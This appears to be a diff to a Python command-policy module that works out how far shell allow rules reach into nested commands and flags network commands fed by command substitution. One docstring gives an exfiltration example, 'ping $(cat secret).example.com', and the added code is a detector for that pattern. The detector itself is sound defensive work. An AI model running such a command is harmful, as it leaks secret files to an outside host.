@@ -1,16 +1,19 @@
-"""What prefix rules say, as matches, and how far an allow rule reaches into what a command runs."""
+"""What prefix rules say, as matches, and how far an allow rule reaches: inside, and in its tail."""
 
-from execpolicy.model.operation import Word
+from execpolicy.catalogue import Reading
+from execpolicy.model.decision import Decision
+from execpolicy.model.operation import Dynamic, Exec, Word
 from execpolicy.model.rule import PrefixRule
-from execpolicy.model.verdict import Match
+from execpolicy.model.verdict import Match, Source
+from execpolicy.store.snapshot import Snapshot
 from execpolicy.support.record import Value
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from collections.abc import Sequence
+    from collections.abc import Iterator, Sequence
 
 
-class Cover(Value):
+class OuterRule(Value):
     """The allow rules on the command around another that name that one, too.
 
     `match` is what one without conditions says; it stands in for the catalogue. `limited` are those
@@ -21,9 +24,9 @@ class Cover(Value):
     limited: "tuple[tuple[PrefixRule, tuple[str, ...]], ...]"
 
 
-def cover(
+def outer_rule(
     rules: "Sequence[PrefixRule]", argv: tuple[Word, ...], at: int, said: "Sequence[Match]"
-) -> Cover | None:
+) -> OuterRule | None:
     """How far the rules that hold for the command `argv` reach into the one that begins `at` it.
 
     A rule for `docker exec web pytest` names what runs inside; one for `docker exec` does not.
@@ -34,8 +37,12 @@ def cover(
         return None
     limited = tuple((r, named(r, argv)) for r in reaching if r.conditions)
     whole = len(limited) < len(reaching)
-    match = next((m for m in said if m.source == "rule" and not m.effects), None) if whole else None
-    return Cover(match, limited)
+    match = (
+        next((m for m in said if m.source is Source.RULE and not m.effects), None)
+        if whole
+        else None
+    )
+    return OuterRule(match, limited)
 
 
 def named(rule: PrefixRule, argv: tuple[Word, ...]) -> tuple[str, ...]:
@@ -52,4 +59,44 @@ def by_rule(rule: PrefixRule, argv: tuple[Word, ...], effects: tuple[str, ...] =
     )
     why = rule.justification or f"a rule for `{pattern}` {said}"
     just = rule.justification
-    return Match("rule", rule.decision, why, rule.origin, words, just, effects, about=argv)
+    return Match(Source.RULE, rule.decision, why, rule.origin, words, just, effects, argv=argv)
+
+
+def beyond(
+    operation: Exec, reading: Reading, snapshot: Snapshot, words_named: int
+) -> "Iterator[Match]":
+    """What a rule that names the first `words_named` words does not mean.
+
+    That is an option that makes a program run something else, and a word computed by a command,
+    where that can carry data out: `ping $(cat secret).example.com`.
+    """
+    from execpolicy.catalogue.reading.granted import REACHING
+    from execpolicy.catalogue.reading.open_tail import is_beyond
+
+    words = tuple(word for word in operation.argv[:words_named] if isinstance(word, str))
+    for cause in reading.effects:
+        if is_beyond(cause, reading.effects, words):
+            why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
+            decision = snapshot.defaults.decide(cause.effect)
+            yield Match(
+                Source.CATALOGUE,
+                decision,
+                why,
+                reading.origin,
+                effects=effects,
+                argv=operation.argv,
+            )
+    if any(cause.effect in REACHING for cause in reading.effects):
+        yield from carried_out(operation)
+
+
+def carried_out(operation: Exec) -> "Iterator[Match]":
+    """A refusal where a command that reaches another machine is given what a command prints."""
+    if any(map(_from_a_command, operation.argv)):
+        why = "sends what a command prints to the network"
+        yield Match(Source.READER, Decision.PROMPT, why, argv=operation.argv)
+
+
+def _from_a_command(word: Word) -> bool:
+    """Whether the output of a command is part of a word."""
+    return isinstance(word, Dynamic) and ("$(" in word.source or "`" in word.source)
